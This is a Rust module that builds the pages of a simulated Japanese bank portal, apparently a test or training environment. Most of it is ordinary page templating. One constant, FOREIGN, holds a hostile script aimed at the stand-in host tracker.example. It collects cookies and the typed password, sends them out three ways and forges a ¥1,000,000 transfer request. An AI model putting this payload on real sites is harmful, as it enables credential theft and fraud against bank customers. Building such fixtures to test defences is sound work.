//! The pages of デモポータル銀行. Their scripts stand in files of their own beside this one.

use jiff::civil::Date;
use serde_json::json;

use crate::ledger::LedgerAccount;
use crate::print::escaped;

/// What somebody else's script does with what it can read, and with the customer's session.
pub(super) const FOREIGN: &str = r#"<script src="https://tracker.example/tag.js"></script>
<script>
const seen = encodeURIComponent(document.cookie + document.title + (document.querySelector("[type=password]")?.value ?? ""));
new Image().src = "https://tracker.example/dot.gif?" + seen;
fetch("https://tracker.example/collect", { method: "POST", mode: "no-cors", body: seen }).catch(() => {});
navigator.sendBeacon("https://tracker.example/beacon", seen);
fetch("/portal/transfer", { method: "POST", body: "to=7777777&yen=1000000" }).catch(() => {});
</script>"#;

fn frame(title: &str, is_signed_in: bool, content: &str) -> String {
    let leave = if is_signed_in {
        r#"<form id="leave" method="post" action="/portal/logout"><a href="/portal/top">トップ</a> <a href="/portal/transfer">振込</a> <button>ログアウト</button></form>"#
    } else {
        ""
    };
    format!(
        r#"<!doctype html>
<html lang="ja"><head><meta charset="utf-8"><title>デモポータル銀行 - {title}</title>
<style>body{{margin:0;font-family:sans-serif;background:#fbf7f4;color:#3a2a20}}.bar{{background:#8a3324;color:#fff;padding:10px 24px}}.box{{width:720px;margin:20px auto;background:#fff;border:1px solid #d8c7bd;padding:20px}}th{{background:#f1e4dc}}td,th{{border:1px solid #d8c7bd;padding:6px 10px}}.caution{{color:#b00020;font-weight:bold}}[role=button]{{display:inline-block;background:#8a3324;color:#fff;padding:6px 18px;cursor:pointer}}</style>
</head><body>
<div class="bar">デモポータル銀行</div>
<div class="box"><h1>{title}</h1>
{leave}
{content}
</div>
<p><small>このサイトはシミュレーションです。実在する銀行とは関係がありません。</small></p>
</body></html>
"#
    )
}

/// A page with one sentence.
pub(super) fn plain(title: &str, sentence: &str) -> String {
    frame(
        title,
        false,
        &format!("<p class=\"sentence\">{sentence}</p>"),
    )
}

fn caution(message: Option<&str>) -> String {
    message.map_or_else(String::new, |text| {
        format!("<p class=\"caution\">{text}</p>")
    })
}

/// The link that looks like a button notes the device before it sends the form; without that nobody comes in.
pub(super) fn login_form(message: Option<&str>) -> String {
    let content = format!(
        r##"{}
<form id="iriguchi" method="post" action="/portal/login" accept-charset="utf-8">
<input type="hidden" name="device" value="">
<table><tr><th>お客さま番号</th><td><input type="text" name="bango" size="12"></td></tr>
<tr><th>お名前（全角）</th><td><input type="text" name="simei" size="20"></td></tr>
<tr><th>暗証</th><td><input type="password" name="angou" size="20"></td></tr></table>
<p><a href="#" role="button" id="hairu">ログイン</a></p>
</form>
<script>{}</script>"##,
        caution(message),
        include_str!("login.js")
    );
    frame("ログイン", false, &content)
}

pub(super) fn code(message: Option<&str>) -> String {
    let content = format!(
        r#"<div id="panel" data-asked="{}">{}</div>
<script>{}</script>"#,
        message.is_some(),
        caution(message),
        include_str!("code.js")
    );
    frame("本人確認", false, &content)
}

pub(super) fn waiting() -> String {
    let content = format!(
        r#"<div id="approve"><p>スマートフォンのアプリで、ログインを<b>承認</b>してください。</p></div>
<script>{}</script>"#,
        include_str!("waiting.js")
    );
    frame("アプリでの承認", false, &content)
}

pub(super) fn maintenance(until: &str) -> String {
    let content = format!(
        "<p class=\"sentence\">定期メンテナンス中です。終了予定 <b id=\"owari\">{}</b></p>",
        escaped(until)
    );
    frame("メンテナンス", false, &content)
}

pub(super) fn notice() -> String {
    frame(
        "重要なお知らせ",
        true,
        "<h2 class=\"midashi\">外貨預金規定の改定</h2><p>ご確認のうえ、同意してください。</p><p><span role=\"button\" onclick=\"alert('受け付けました')\">同意する</span></p>",
    )
}

pub(super) fn never_seen() -> String {
    frame(
        "本人確認書類のご提出",
        true,
        "<p>お手元の書類を撮影してください。</p>",
    )
}

pub(super) fn goodbye() -> String {
    plain("ログアウト", "ご利用ありがとうございました。")
}

/// JSON inside of a page: it must not be able to end the script that it stands in.
fn embedded(value: &serde_json::Value) -> String {
    value.to_string().replace('<', "\\u003c")
}

pub(super) fn top(accounts: &[LedgerAccount], is_second: bool) -> String {
    let rows: Vec<_> = accounts
        .iter()
        .map(|account| {
            json!({
                "branch": format!("{}（{}）", account.branch, account.branch_code),
                "name": account.name,
                "number": account.number,
                "balance": account.balance,
            })
        })
        .collect();
    let content = format!(
        r#"<div id="koza">読み込み中</div>
<script type="application/json" id="seed">{}</script>
<script>{}</script>"#,
        embedded(&json!({ "second": is_second, "rows": rows })),
        include_str!("top.js")
    );
    frame("トップ", true, &content)
}

pub(super) fn inquiry(account: &LedgerAccount, today: Date, is_second: bool) -> String {
    let seed = json!({
        "number": account.number,
        "first": account.shown_from.to_string(),
        "today": today.to_string(),
        "second": is_second,
    });
    let content = format!(
        r#"<p>{} {} {}</p>
<div id="jouken"></div>
<script type="application/json" id="seed">{}</script>
<script>{}</script>"#,
        account.branch,
        account.name,
        account.number,
        embedded(&seed),
        include_str!("inquiry.js")
    );
    frame("入出金明細のダウンロード", true, &content)
}
